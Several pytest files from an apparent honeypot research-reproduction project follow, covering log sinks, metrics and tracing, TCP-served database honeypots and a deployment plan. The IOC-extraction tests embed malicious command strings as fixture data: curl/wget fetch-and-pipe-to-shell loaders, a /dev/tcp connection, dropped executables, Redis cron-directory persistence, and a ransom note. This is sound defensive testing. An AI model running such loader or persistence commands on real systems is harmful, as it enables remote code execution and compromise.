                honeypot_type="qeeqbox", dbms="mysql", interaction="low",
                config="multi", src_ip="20.0.0.1", src_port=5555,
                event_type="connect")
    base.update(overrides)
    return LogEvent(**base)


@pytest.fixture
def world():
    space = AddressSpace()
    space.register_as(64500, "HOSTCO", "Germany", ASType.HOSTING)
    ip = str(space.allocate(64500))
    geoip = GeoIPDatabase.from_address_space(space)
    return geoip, InstitutionalScannerList(), ip


class TestBasicSinks:
    def test_plain_callable_satisfies_protocol(self):
        assert isinstance(LogStore().append, EventSinkProtocol)

    def test_close_sink_tolerates_closeless_sinks(self):
        events = []
        assert close_sink(events.append) is None

    def test_tee_fans_out_in_order(self):
        seen = []
        tee = TeeSink(lambda e: seen.append(("a", e)),
                      lambda e: seen.append(("b", e)))
        event = make_event()
        tee(event)
        assert seen == [("a", event), ("b", event)]

    def test_tee_close_closes_children(self):
        raw = BufferSink()
        counting = CountingSink()
        closed = []

        class Closeable:
            def __call__(self, event):
                pass

            def close(self):
                closed.append(True)

        TeeSink(raw, counting, Closeable()).close()
        assert closed == [True]

    def test_tier_split_routes_by_interaction(self):
        low, midhigh = BufferSink(), BufferSink()
        split = TierSplitSink(low, midhigh)
        split(make_event(interaction="low"))
        split(make_event(interaction="medium"))
        split(make_event(interaction="high"))
        assert (split.low_count, split.midhigh_count) == (1, 2)
        assert [e.interaction for e in low] == ["low"]
        assert [e.interaction for e in midhigh] == ["medium", "high"]

    def test_counting_sink_tallies_breakdowns(self):
        counting = CountingSink()
        counting(make_event(event_type="connect", dbms="redis"))
        counting(make_event(event_type="command", dbms="redis",
                            interaction="medium"))
        assert counting.total == 2
        assert counting.counts["event_type"] == {"connect": 1,
                                                 "command": 1}
        assert counting.counts["dbms"] == {"redis": 2}
        assert counting.counts["interaction"] == {"low": 1, "medium": 1}

    def test_buffer_sink_iterates_and_sizes(self):
        buffer = BufferSink()
        events = [make_event(src_port=p) for p in (1, 2, 3)]
        for event in events:
            buffer(event)
        assert len(buffer) == 3
        assert list(buffer) == events


class TestRawLogSink:
    def test_matches_logstore_consolidated_layout(self, tmp_path):
        events = [make_event(),
                  make_event(dbms="redis", interaction="medium",
                             config="default"),
                  make_event(src_port=6000)]
        store = LogStore()
        sink = RawLogSink(tmp_path / "streamed")
        for event in events:
            store.append(event)
            sink(event)
        store_paths = store.write_consolidated(tmp_path / "buffered")
        sink_paths = sink.close()
        assert [p.name for p in sink_paths] == \
            [p.name for p in store_paths]
        for streamed, buffered in zip(sink_paths, store_paths):
            assert streamed.read_text() == buffered.read_text()

    def test_close_is_resettable(self, tmp_path):
        sink = RawLogSink(tmp_path)
        sink(make_event())
        assert len(sink.close()) == 1
        assert sink.close() == []


class TestSQLiteWriterSink:
    def test_streams_events_to_database(self, tmp_path, world):
        geoip, scanners, ip = world
        sink = SQLiteWriterSink(tmp_path / "out.sqlite", geoip, scanners)
        for port in (1000, 2000, 3000):
            sink(make_event(src_ip=ip, src_port=port))
        path = sink.close()
        assert count_events(path) == 3
        assert {row["src_port"] for row in read_events(path)} == \
            {1000, 2000, 3000}

    def test_close_is_idempotent(self, tmp_path, world):
        geoip, scanners, ip = world
        sink = SQLiteWriterSink(tmp_path / "out.sqlite", geoip, scanners)
        sink(make_event(src_ip=ip))
        assert sink.close() == sink.close()

    def test_no_events_still_creates_empty_database(self, tmp_path, world):
        geoip, scanners, _ip = world
        sink = SQLiteWriterSink(tmp_path / "empty.sqlite", geoip, scanners)
        path = sink.close()
        assert path.exists()
        assert count_events(path) == 0

    def test_conversion_error_surfaces_in_close(self, tmp_path, world):
        geoip, scanners, ip = world
        # The database path is an existing directory: the conversion
        # thread fails, and close() must re-raise in the caller instead
        # of swallowing the loss.
        bad = tmp_path / "taken.sqlite"
        bad.mkdir()
        sink = SQLiteWriterSink(bad, geoip, scanners)
        sink(make_event(src_ip=ip))
        with pytest.raises(Exception):
            sink.close()
        # Still raising on a second close -- never "recovers" into
        # silently pretending the data was written.
        with pytest.raises(Exception):
            sink.close()
