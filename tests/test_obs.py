"""Tests for the observability layer: metrics registry, tracer, phase
timers, manifest round-trip, and the instrumented experiment driver."""

import json
import threading
from pathlib import Path

import pytest

from repro import obs
from repro.obs import report as obs_report
from repro.obs.metrics import MetricsRegistry, NullMetricsRegistry
from repro.obs.timing import NullPhaseTimer, PhaseTimer, Stopwatch
from repro.obs.tracing import NullTracer, Tracer

GOLDEN_TRACE = Path(__file__).parent / "data" / "trace_golden.json"


class FakeClock:
    """Returns 0.0, 1.0, 2.0, ... on successive calls."""

    def __init__(self) -> None:
        self.now = -1.0

    def __call__(self) -> float:
        self.now += 1.0
        return self.now


class TestMetricsRegistry:
    def test_counter_inc_and_read(self):
        registry = MetricsRegistry()
        registry.inc("events")
        registry.inc("events", 4)
        assert registry.counter_value("events") == 5

    def test_counters_separate_by_labels(self):
        registry = MetricsRegistry()
        registry.inc("events", dbms="redis")
        registry.inc("events", 2, dbms="mysql")
        assert registry.counter_value("events", dbms="redis") == 1
        assert registry.counter_value("events", dbms="mysql") == 2
        assert registry.counter_value("events") == 0
        assert registry.counter_total("events") == 3

    def test_label_order_does_not_matter(self):
        registry = MetricsRegistry()
        registry.inc("x", a=1, b=2)
        registry.inc("x", b=2, a=1)
        assert registry.counter_value("x", b=2, a=1) == 2

    def test_gauge_set_and_add(self):
        registry = MetricsRegistry()
        registry.set_gauge("open", 3)
        registry.add_gauge("open", 2)
        registry.add_gauge("open", -4)
        assert registry.gauge_value("open") == 1

    def test_histogram_statistics(self):
        registry = MetricsRegistry()
        for value in (1.0, 2.0, 4.0, 8.0):
            registry.observe("latency", value)
        histogram = registry.histogram("latency")
        assert histogram.count == 4
        assert histogram.total == 15.0
        assert histogram.min == 1.0
        assert histogram.max == 8.0
        assert histogram.mean == pytest.approx(3.75)

    def test_histogram_log_scale_buckets(self):
        registry = MetricsRegistry()
        # 3 -> le 4; 0.75 -> le 1; exactly 2 -> le 2; 0 -> le 0.
        for value in (3.0, 0.75, 2.0, 0.0):
            registry.observe("h", value)
        buckets = {b["le"]: b["count"]
                   for b in registry.histogram("h").snapshot()["buckets"]}
        assert buckets == {0.0: 1, 1.0: 1, 2.0: 1, 4.0: 1}

    def test_counter_increments_are_exact_under_threads(self):
        registry = MetricsRegistry()

        def worker():
            for _ in range(5000):
                registry.inc("n", worker=True)
                registry.observe("v", 1.0)

        threads = [threading.Thread(target=worker) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert registry.counter_value("n", worker=True) == 40000
        assert registry.histogram("v").count == 40000

    def test_snapshot_shape(self):
        registry = MetricsRegistry()
        registry.inc("c", 2, dbms="redis")
        registry.set_gauge("g", 7)
        registry.observe("h", 3.0)
        snapshot = registry.snapshot()
        assert snapshot["counters"] == [
            {"name": "c", "labels": {"dbms": "redis"}, "value": 2}]
        assert snapshot["gauges"] == [
            {"name": "g", "labels": {}, "value": 7}]
        (histogram,) = snapshot["histograms"]
        assert histogram["name"] == "h" and histogram["count"] == 1
        # Snapshot must be JSON-serializable as-is.
        json.dumps(snapshot)

    def test_null_registry_drops_everything(self):
        registry = NullMetricsRegistry()
        registry.inc("c")
        registry.set_gauge("g", 1)
        registry.add_gauge("g", 1)
        registry.observe("h", 1.0)
        assert not registry.enabled
        assert registry.counter_value("c") == 0
        assert registry.snapshot() == {"counters": [], "gauges": [],
                                       "histograms": []}


class TestTracer:
    def make_nested_trace(self) -> Tracer:
        tracer = Tracer(clock=FakeClock())  # epoch consumes t=0
        with tracer.span("outer", kind="test"):
            with tracer.span("inner.a", idx=1):
                pass
            with tracer.span("inner.b"):
                pass
        return tracer

    def test_span_nesting_and_parents(self):
        tracer = self.make_nested_trace()
        spans = {span["name"]: span for span in tracer.spans}
        assert spans["outer"]["parent"] is None
        assert spans["inner.a"]["parent"] == spans["outer"]["id"]
        assert spans["inner.b"]["parent"] == spans["outer"]["id"]
        # Children complete before the parent records.
        assert [s["name"] for s in tracer.spans] == ["inner.a", "inner.b",
                                                     "outer"]

    def test_span_timing_with_fake_clock(self):
        tracer = self.make_nested_trace()
        spans = {span["name"]: span for span in tracer.spans}
        assert spans["outer"]["start"] == 1.0
        assert spans["outer"]["dur"] == 5.0
        assert spans["inner.a"]["start"] == 2.0
        assert spans["inner.a"]["dur"] == 1.0
        assert spans["inner.b"]["start"] == 4.0

    def test_sibling_spans_have_no_parent_after_pop(self):
        tracer = Tracer(clock=FakeClock())
        with tracer.span("first"):
            pass
        with tracer.span("second"):
            pass
        spans = {span["name"]: span for span in tracer.spans}
        assert spans["second"]["parent"] is None

    def test_chrome_export_matches_golden_file(self, tmp_path):
        tracer = self.make_nested_trace()
        path = tracer.export_chrome(tmp_path / "trace.json")
        produced = json.loads(path.read_text(encoding="utf-8"))
        golden = json.loads(GOLDEN_TRACE.read_text(encoding="utf-8"))
        assert produced == golden

    def test_jsonl_export_round_trips(self, tmp_path):
        tracer = self.make_nested_trace()
        path = tracer.export_jsonl(tmp_path / "trace.jsonl")
        lines = [json.loads(line) for line
                 in path.read_text(encoding="utf-8").splitlines()]
        assert len(lines) == 3
        # Sorted by start time: outer opened first.
        assert lines[0]["name"] == "outer"
        assert {line["name"] for line in lines} == {"outer", "inner.a",
                                                    "inner.b"}

    def test_exception_inside_span_still_records(self):
        tracer = Tracer(clock=FakeClock())
        with pytest.raises(RuntimeError):
            with tracer.span("doomed"):
                raise RuntimeError("boom")
        assert [span["name"] for span in tracer.spans] == ["doomed"]

    def test_null_tracer_collects_nothing(self, tmp_path):
        tracer = NullTracer()
        with tracer.span("ignored", x=1):
            pass
        assert tracer.spans == []
        chrome = tracer.export_chrome(tmp_path / "t.json")
        assert json.loads(chrome.read_text())["traceEvents"] == []


class TestPhaseTimer:
    def test_phases_accumulate(self):
        timer = PhaseTimer(clock=FakeClock())
        with timer.phase("a"):  # 0 -> 1
            pass
        with timer.phase("b"):  # 2 -> 3
            pass
        with timer.phase("a"):  # 4 -> 5
            pass
        assert timer.as_dict() == {"a": 2.0, "b": 1.0}
        assert timer.total() == 3.0

    def test_insertion_order_preserved(self):
        timer = PhaseTimer(clock=FakeClock())
        for name in ("build", "replay", "convert"):
            with timer.phase(name):
                pass
        assert list(timer.as_dict()) == ["build", "replay", "convert"]

    def test_null_timer_is_empty(self):
        timer = NullPhaseTimer()
        with timer.phase("a"):
            pass
        timer.add("b", 5.0)
        assert timer.as_dict() == {}
        assert timer.total() == 0.0

    def test_stopwatch(self):
        with Stopwatch(clock=FakeClock()) as watch:
            pass
        assert watch.elapsed == 1.0


class TestInstallation:
    def test_default_is_null(self):
        telemetry = obs.current()
        assert not telemetry.enabled
        assert not telemetry.metrics.enabled

    def test_install_and_restore(self):
        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            assert obs.current() is telemetry
            obs.current().metrics.inc("x")
        assert obs.current() is obs.NULL_TELEMETRY
        assert telemetry.metrics.counter_value("x") == 1

    def test_install_restores_after_exception(self):
        with pytest.raises(ValueError):
            with obs.install(obs.Telemetry(enabled=True)):
                raise ValueError
        assert obs.current() is obs.NULL_TELEMETRY


class TestManifest:
    def make_manifest(self) -> dict:
        return {
            "schema": obs_report.SCHEMA,
            "generated_at": "2026-08-06T00:00:00+00:00",
            "config": {"seed": 7, "volume_scale": 0.001,
                       "output_dir": "out"},
            "wall_time_seconds": 2.0,
            "phases": {"build_world": 0.5, "replay": 1.5},
            "visits_total": 10,
            "events_total": 42,
            "events_by_type": {"connect": 21, "disconnect": 21},
            "events_by_dbms": {"redis": 42},
            "events_by_interaction": {"medium": 42},
            "events_by_honeypot": {"hp-1": 42},
            "split": {"low": 0, "midhigh": 42},
            "db_rows": {"low": 0, "midhigh": 42},
            "bytes": {"in": 1000, "out": 2000},
            "peak_rss_bytes": 1048576,
            "metrics": {"counters": [], "gauges": [], "histograms": []},
            "trace": {"spans": 3, "path": None},
        }

    def test_write_load_round_trip(self, tmp_path):
        manifest = self.make_manifest()
        path = obs_report.write_report(manifest, tmp_path / "r.json")
        assert obs_report.load_report(path) == manifest

    def test_load_rejects_foreign_json(self, tmp_path):
        path = tmp_path / "other.json"
        path.write_text('{"hello": "world"}', encoding="utf-8")
        with pytest.raises(ValueError, match="not a run_report"):
            obs_report.load_report(path)

    def test_format_summary_mentions_key_facts(self):
        text = obs_report.format_summary(self.make_manifest())
        assert "replay" in text
        assert "42" in text
        assert "seed=7" in text
        assert "1.0 MiB" in text  # peak RSS
        assert "events by type" in text

    def test_format_summary_tolerates_sparse_manifest(self):
        text = obs_report.format_summary({"schema": obs_report.SCHEMA})
        assert "visits" in text


class TestInstrumentedExperiment:
    @pytest.fixture(scope="class")
    def telemetry_run(self, tmp_path_factory):
        from repro.deployment import ExperimentConfig, run_experiment

        output = tmp_path_factory.mktemp("telemetry-run")
        return run_experiment(ExperimentConfig(
            seed=99, volume_scale=0.0001, output_dir=output,
            telemetry=True, trace_out=output / "trace.json"))

    def test_manifest_event_count_is_exact(self, telemetry_run):
        manifest = telemetry_run.report
        assert manifest["events_total"] == telemetry_run.events_total
        assert sum(manifest["events_by_type"].values()) == \
            telemetry_run.events_total
        assert sum(manifest["events_by_dbms"].values()) == \
            telemetry_run.events_total
        assert sum(manifest["events_by_honeypot"].values()) == \
            telemetry_run.events_total

    def test_split_counts_partition_the_store(self, telemetry_run):
        manifest = telemetry_run.report
        split = manifest["split"]
        assert split["low"] + split["midhigh"] == \
            telemetry_run.events_total
        assert manifest["db_rows"] == split

    def test_phase_times_cover_the_wall_time(self, telemetry_run):
        manifest = telemetry_run.report
        total = sum(manifest["phases"].values())
        assert total <= manifest["wall_time_seconds"]
        assert total >= 0.9 * manifest["wall_time_seconds"]
        for name in ("build_plan", "build_world", "compile_visits",
                     "replay", "split", "convert"):
            assert name in manifest["phases"]

    def test_manifest_written_next_to_databases(self, telemetry_run):
        assert telemetry_run.report_path.name == "run_report.json"
        assert telemetry_run.report_path.parent == \
            telemetry_run.low_db.parent
        loaded = obs_report.load_report(telemetry_run.report_path)
        assert loaded["events_total"] == telemetry_run.events_total

    def test_bytes_and_visits_recorded(self, telemetry_run):
        manifest = telemetry_run.report
        assert manifest["bytes"]["in"] > 0
        assert manifest["bytes"]["out"] > 0
        assert manifest["visits_total"] == telemetry_run.visits_total > 0

    def test_convert_metrics_match_rows(self, telemetry_run):
        counters = {(c["name"], c["labels"].get("db")): c["value"]
                    for c in telemetry_run.report["metrics"]["counters"]}
        assert counters[("convert.rows_written", "low.sqlite")] == \
            telemetry_run.report["db_rows"]["low"]
        assert counters[("convert.rows_written", "midhigh.sqlite")] == \
            telemetry_run.report["db_rows"]["midhigh"]

    def test_chrome_trace_exported(self, telemetry_run):
        document = json.loads(
            telemetry_run.trace_path.read_text(encoding="utf-8"))
        events = document["traceEvents"]
        assert len(events) == telemetry_run.report["trace"]["spans"]
        names = {event["name"] for event in events}
        assert "replay.visit" in names
        assert "convert.enrich" in names

    def test_disabled_run_has_no_report(self, small_experiment):
        assert small_experiment.report is None
        assert small_experiment.report_path is None
        assert not (Path(small_experiment.config.output_dir)
                    / "run_report.json").exists()


class TestClusteringInstrumentation:
    def test_linkage_reports_merge_metrics(self):
        import numpy as np

        from repro.core.clustering import AgglomerativeClustering

        matrix = np.array([[0.0, 0.0], [0.0, 1.0], [4.0, 0.0],
                           [4.0, 1.0]])
        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            model = AgglomerativeClustering(n_clusters=2).fit(matrix)
        assert model.n_clusters_ == 2
        metrics = telemetry.metrics
        assert metrics.counter_value("clustering.linkage_calls",
                                     method="ward") == 1
        assert metrics.counter_value("clustering.merges",
                                     method="ward") == 3
        histogram = metrics.histogram("clustering.linkage_seconds",
                                      method="ward")
        assert histogram is not None and histogram.count == 1
        n_hist = metrics.histogram("clustering.n_clusters", method="ward")
        assert n_hist.max == 2
