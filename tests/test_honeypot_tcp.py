"""Integration tests: honeypots served over real TCP sockets.

The same session objects the fast simulation uses are bound to asyncio
servers and attacked through :class:`TcpWire` -- proving the honeypots
work against real network clients.
"""

import asyncio
import threading
import time

import pytest

from repro.clients import (ElasticClient, MSSQLClient, MongoClient,
                           MySQLClient, PostgresClient, RedisClient,
                           TcpWire)
from repro.honeypots import (Elasticpot, LowInteractionMSSQL,
                             LowInteractionMySQL, MongoHoneypot,
                             RedisHoneypot, StickyElephant)
from repro.honeypots.tcp import TcpHoneypotServer
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore


class ServerHarness:
    """Runs one TCP honeypot server on a background event loop."""

    def __init__(self, honeypot):
        self.store = LogStore()
        self.server = TcpHoneypotServer(honeypot, SimClock(),
                                        self.store.append)
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever,
                                       daemon=True)
        self.thread.start()
        future = asyncio.run_coroutine_threadsafe(self.server.start(),
                                                  self.loop)
        self.port = future.result(timeout=5)

    def stop(self):
        asyncio.run_coroutine_threadsafe(self.server.stop(),
                                         self.loop).result(timeout=5)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(timeout=5)


@pytest.fixture
def harness(request):
    harnesses = []

    def start(honeypot):
        h = ServerHarness(honeypot)
        harnesses.append(h)
        return h

    yield start
    for h in harnesses:
        h.stop()


def test_mysql_over_tcp(harness):
    h = harness(LowInteractionMySQL("tcp-mysql"))
    client = MySQLClient(TcpWire("127.0.0.1", h.port,
                                 expect_greeting=True))
    assert client.connect() == "8.0.36"
    result = client.login("root", "opensesame")
    client.close()
    assert not result.success
    assert result.error_code == 1045
    logins = [e for e in h.store if e.event_type == "login_attempt"]
    assert logins[0].password == "opensesame"


def test_mssql_over_tcp(harness):
    h = harness(LowInteractionMSSQL("tcp-mssql"))
    client = MSSQLClient(TcpWire("127.0.0.1", h.port))
    options = client.connect()
    assert options
    result = client.login("sa", "123")
    client.close()
    assert not result.success
    assert result.error_number == 18456


def test_redis_medium_over_tcp(harness):
    h = harness(RedisHoneypot("tcp-redis", config="fake_data"))
    client = RedisClient(TcpWire("127.0.0.1", h.port))
    client.connect()
    keys = client.command("KEYS", "*")
    assert isinstance(keys, list) and len(keys) == 200
    assert client.command("SET", "x", "y").value == "OK"
    assert client.command("GET", "x") == b"y"
    client.close()


def test_sticky_elephant_over_tcp(harness):
    h = harness(StickyElephant("tcp-psql"))
    client = PostgresClient(TcpWire("127.0.0.1", h.port))
    client.connect()
    assert client.login("postgres", "postgres")
    result = client.query("SELECT version();")
    client.terminate()
    assert result.ok
    assert result.rows and b"PostgreSQL" in result.rows[0][0]


def test_elasticpot_over_tcp(harness):
    h = harness(Elasticpot("tcp-es"))
    client = ElasticClient(TcpWire("127.0.0.1", h.port))
    client.connect()
    banner = client.get_json("/")
    client.close()
    assert banner["version"]["number"] == "1.4.2"


def test_mongo_over_tcp(harness):
    h = harness(MongoHoneypot("tcp-mongo"))
    client = MongoClient(TcpWire("127.0.0.1", h.port))
    client.connect()
    hello = client.is_master_legacy()
    assert hello["ismaster"] is True
    assert client.list_databases() == ["customers"]
    documents = client.find_all("customers", "records", batch=3)
    client.close()
    assert len(documents) == 3


def test_serve_honeypots_port_base_assigns_sequential_ports():
    import socket

    from repro.honeypots.tcp import serve_honeypots

    # Find a free region: bind an ephemeral port and use it as the base
    # (the OS will not hand out nearby ephemeral ports immediately).
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    base = probe.getsockname()[1]
    probe.close()

    async def scenario():
        store = LogStore()
        servers = await serve_honeypots(
            [RedisHoneypot("pb-redis"), Elasticpot("pb-es")],
            SimClock(), store.append, port_base=base)
        try:
            return [server.port for server in servers]
        finally:
            for server in servers:
                await server.stop()

    ports = asyncio.run(scenario())
    assert ports == [base, base + 1]


def test_tcp_connections_counted_when_telemetry_installed():
    from repro import obs

    telemetry = obs.Telemetry(enabled=True)
    metrics = telemetry.metrics
    with obs.install(telemetry):
        h = ServerHarness(RedisHoneypot("tcp-redis-metrics"))
        try:
            client = RedisClient(TcpWire("127.0.0.1", h.port))
            client.connect()
            client.command("PING")
            client.close()
            # The handler finalizes its counters asynchronously.
            deadline = time.monotonic() + 5
            while (metrics.gauge_value("tcp.open_connections",
                                       dbms="redis") != 0
                   or metrics.counter_value("tcp.bytes_out",
                                            dbms="redis") == 0):
                assert time.monotonic() < deadline, "handler never closed"
                time.sleep(0.01)
        finally:
            h.stop()
    assert metrics.counter_value("tcp.connections", dbms="redis") == 1
    assert metrics.gauge_value("tcp.open_connections", dbms="redis") == 0
    assert metrics.counter_value("tcp.bytes_in", dbms="redis") > 0
    assert metrics.counter_value("tcp.bytes_out", dbms="redis") > 0


def test_concurrent_sessions_do_not_interleave(harness):
    h = harness(RedisHoneypot("tcp-redis-2"))
    clients = []
    for index in range(4):
        client = RedisClient(TcpWire("127.0.0.1", h.port))
        client.connect()
        clients.append(client)
    for index, client in enumerate(clients):
        client.command("SET", f"key{index}", str(index))
    for index, client in enumerate(clients):
        assert client.command("GET", f"key{index}") == str(index).encode()
        client.close()
    connects = [e for e in h.store if e.event_type == "connect"]
    assert len(connects) == 4
