"""Tests for IOC extraction and infrastructure pivoting."""

from repro.core.iocs import (IocSet, extract_iocs, pivot_infrastructure,
                             profile_iocs)
from repro.core.loading import IpProfile


class TestExtraction:
    def test_loader_urls(self):
        iocs = extract_iocs(["curl -fsSL http://103.97.132.19:8080/ff.sh"
                             " | sh"])
        assert iocs.loader_endpoints == {"103.97.132.19:8080"}
        assert iocs.urls == {"http://103.97.132.19:8080/ff.sh"}

    def test_url_without_port(self):
        iocs = extract_iocs(["wget http://45.15.158.124/pg.sh"])
        assert iocs.loader_endpoints == {"45.15.158.124"}

    def test_dev_tcp_endpoints(self):
        iocs = extract_iocs(
            ["exec 6<>/dev/tcp/194.38.20.199/60101 && echo"])
        assert iocs.loader_endpoints == {"194.38.20.199:60101"}

    def test_btc_addresses_and_amounts(self):
        note = ("You must pay 0.0058 BTC to "
                "bc1qexampleransomaddressgroup1 in 48 hours")
        iocs = extract_iocs([note])
        assert "bc1qexampleransomaddressgroup1" in iocs.btc_addresses
        assert iocs.btc_amounts == {"0.0058"}

    def test_emails(self):
        iocs = extract_iocs(["send mail to recover@onionmail.example"])
        assert iocs.emails == {"recover@onionmail.example"}

    def test_ssh_keys(self):
        iocs = extract_iocs(
            ["\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQCexample "
             "root@localhost\n"])
        assert len(iocs.ssh_keys) == 1

    def test_dropped_files(self):
        iocs = extract_iocs(["cat 0<&6 > /tmp/0e1a6e1a; chmod +x "
                             "/tmp/0e1a6e1a", "config set dir "
                             "/var/spool/cron"])
        assert "/tmp/0e1a6e1a" in iocs.dropped_files
        assert any(path.startswith("/var/spool/cron")
                   for path in iocs.dropped_files)

    def test_clean_text_yields_empty(self):
        iocs = extract_iocs(["SELECT version();", "INFO server"])
        assert not iocs

    def test_merge(self):
        a = extract_iocs(["http://1.2.3.4/x"])
        b = extract_iocs(["pay 1.0 BTC to "
                          "bc1qaaaaaaaaaaaaaaaaaaaaaaaaaa"])
        merged = a.merge(b)
        assert merged.loader_endpoints and merged.btc_addresses


class TestProfilesAndPivot:
    def make_profile(self, ip, raws):
        profile = IpProfile(src_ip=ip, dbms="redis")
        profile.raws = list(raws)
        return profile

    def test_profile_iocs(self):
        profile = self.make_profile(
            "1.1.1.1", ["GET http://9.9.9.9:81/linux"])
        assert profile_iocs(profile).loader_endpoints == {"9.9.9.9:81"}

    def test_pivot_groups_shared_infrastructure(self):
        profiles = {
            ("a", "redis"): self.make_profile(
                "a", ["curl http://9.9.9.9:81/linux"]),
            ("b", "redis"): self.make_profile(
                "b", ["wget http://9.9.9.9:81/linux"]),
            ("c", "redis"): self.make_profile(
                "c", ["curl http://8.8.8.8:80/other"]),
            ("d", "redis"): self.make_profile("d", ["INFO"]),
        }
        pivot = pivot_infrastructure(profiles)
        shared = pivot.shared_endpoints(minimum=2)
        assert shared == {"9.9.9.9:81": {"a", "b"}}

    def test_pivot_on_experiment_groups_campaigns(self,
                                                  small_experiment):
        from repro.core.loading import load_ip_profiles

        profiles = load_ip_profiles(small_experiment.midhigh_db)
        pivot = pivot_infrastructure(profiles)
        shared = pivot.shared_endpoints(minimum=5)
        # The P2PInfect loader and the Kinsing host are each shared by
        # their whole campaign.
        assert any(len(ips) >= 30 for ips in shared.values())
        campaign_sizes = sorted((len(ips) for ips in shared.values()),
                                reverse=True)
        assert campaign_sizes[0] >= 100  # Kinsing (196 IPs)
