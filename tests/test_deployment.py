"""Tests for the deployment plan (Table 4) and the honeypot catalog
(Table 3)."""

import pytest

from repro.deployment.plan import (LOW_DBMS, MONGODB_COUNTRIES,
                                   build_plan)
from repro.honeypots.catalog import CATALOG, entry_for


@pytest.fixture(scope="module")
def plan():
    return build_plan()


class TestTable4:
    def test_278_instances(self, plan):
        assert len(plan) == 278

    def test_low_interaction_counts(self, plan):
        assert len(plan.select(interaction="low")) == 220
        assert len(plan.select(interaction="low", config="multi")) == 200
        assert len(plan.select(interaction="low", config="single")) == 20

    def test_fifty_low_per_dbms_on_multi(self, plan):
        for dbms in LOW_DBMS:
            assert len(plan.select(interaction="low", dbms=dbms,
                                   config="multi")) == 50
            assert len(plan.select(interaction="low", dbms=dbms,
                                   config="single")) == 5

    def test_medium_configurations(self, plan):
        assert len(plan.select(dbms="redis",
                               interaction="medium")) == 20
        assert len(plan.select(dbms="redis", config="default",
                               interaction="medium")) == 10
        assert len(plan.select(dbms="redis", config="fake_data")) == 10
        assert len(plan.select(dbms="postgresql",
                               interaction="medium")) == 20
        assert len(plan.select(dbms="postgresql",
                               config="login_disabled")) == 10
        assert len(plan.select(dbms="elasticsearch")) == 10

    def test_mongodb_spread_across_eight_countries(self, plan):
        targets = plan.select(interaction="high")
        assert len(targets) == 8
        assert sorted(t.location for t in targets) == sorted(
            MONGODB_COUNTRIES)

    def test_multi_vms_share_host_across_four_services(self, plan):
        hosts = plan.hosts(config="multi")
        assert len(hosts) == 50
        first = [t for t in plan.targets if t.host == hosts[0]]
        assert sorted(t.dbms for t in first) == sorted(LOW_DBMS)

    def test_single_vms_expose_one_service(self, plan):
        hosts = plan.hosts(config="single")
        assert len(hosts) == 20
        for host in hosts:
            targets = [t for t in plan.targets if t.host == host]
            assert len(targets) == 1

    def test_lookup_by_key(self, plan):
        target = plan.by_key("low/multi/00/mysql")
        assert target.dbms == "mysql"
        assert target.interaction == "low"
        with pytest.raises(KeyError):
            plan.by_key("no/such/key")

    def test_keys_unique(self, plan):
        keys = [t.key for t in plan.targets]
        assert len(keys) == len(set(keys))

    def test_ports_match_services(self, plan):
        ports = {t.dbms: t.honeypot.info.port for t in plan.targets}
        assert ports["mysql"] == 3306
        assert ports["postgresql"] == 5432
        assert ports["redis"] == 6379
        assert ports["mssql"] == 1433
        assert ports["elasticsearch"] == 9200
        assert ports["mongodb"] == 27017


class TestTable3:
    def test_five_families(self):
        assert len(CATALOG) == 5

    def test_capture_levels(self):
        qeeqbox = entry_for("qeeqbox")
        assert qeeqbox.level == "Low"
        assert qeeqbox.captures == ("S", "T")
        for family in ("redishoneypot", "sticky_elephant", "elasticpot",
                       "mongodb-honeypot"):
            assert "E" in entry_for(family).captures

    def test_qeeqbox_simulates_four_dbms(self):
        assert set(entry_for("qeeqbox").simulates) == {
            "mysql", "postgresql", "redis", "mssql"}

    def test_unknown_family_raises(self):
        with pytest.raises(KeyError):
            entry_for("cowrie")
