"""Tests for the live operations plane: Prometheus exposition, the
streaming metrics bus (delta emission + parent-side fold), correlated
structured logging, and the crash flight recorder.

The load-bearing invariant here is *delta-merge equivalence*: folding
every delta a shard emitter streams must reconstruct exactly the
registry an end-of-run merge would produce (counters and histograms;
gauges fold by max and are excluded by design).  It is asserted both
synthetically and on randomized workloads.
"""

import io
import json
import os
import random
import signal
import subprocess
import sys
import textwrap
import threading
import queue as queue_module

import pytest

from repro import obs
from repro.obs.exposition import render_prometheus
from repro.obs.flight import FlightRecorder, NullFlightRecorder
from repro.obs.live import (LiveAggregator, LiveBus, ShardEmitter,
                            counters_equal, snapshot_delta)
from repro.obs.logging import (NullOpsLogger, OpsLogger, bind,
                               context_fields)
from repro.obs.metrics import MetricsRegistry


class FakeClock:
    def __init__(self, start=0.0):
        self.now = start

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


# -- Prometheus exposition --------------------------------------------------

class TestRenderPrometheus:
    def test_counter_gets_total_suffix_and_namespace(self):
        registry = MetricsRegistry()
        registry.inc("tcp.bytes_in", 7, dbms="redis")
        text = render_prometheus(registry)
        assert ('repro_tcp_bytes_in_total{dbms="redis"} 7'
                in text.splitlines())
        assert "# TYPE repro_tcp_bytes_in_total counter" in text

    def test_gauge_rendered_without_total_suffix(self):
        registry = MetricsRegistry()
        registry.set_gauge("open_connections", 3, dbms="mysql")
        text = render_prometheus(registry)
        assert ('repro_open_connections{dbms="mysql"} 3'
                in text.splitlines())
        assert "# TYPE repro_open_connections gauge" in text

    def test_labels_sorted_by_key(self):
        registry = MetricsRegistry()
        registry.inc("x", zebra="z", alpha="a", mid="m")
        line = [l for l in render_prometheus(registry).splitlines()
                if l.startswith("repro_x_total")][0]
        assert line == ('repro_x_total{alpha="a",mid="m",zebra="z"} 1')

    def test_label_values_escaped(self):
        registry = MetricsRegistry()
        registry.inc("x", path='C:\\tmp', quote='say "hi"', nl="a\nb")
        line = [l for l in render_prometheus(registry).splitlines()
                if l.startswith("repro_x_total")][0]
        assert '\\\\tmp' in line
        assert '\\"hi\\"' in line
        assert 'a\\nb' in line
        assert "\n" not in line

    def test_metric_name_sanitized(self):
        registry = MetricsRegistry()
        registry.inc("weird-name.with spaces")
        text = render_prometheus(registry)
        assert "repro_weird_name_with_spaces_total 1" in text

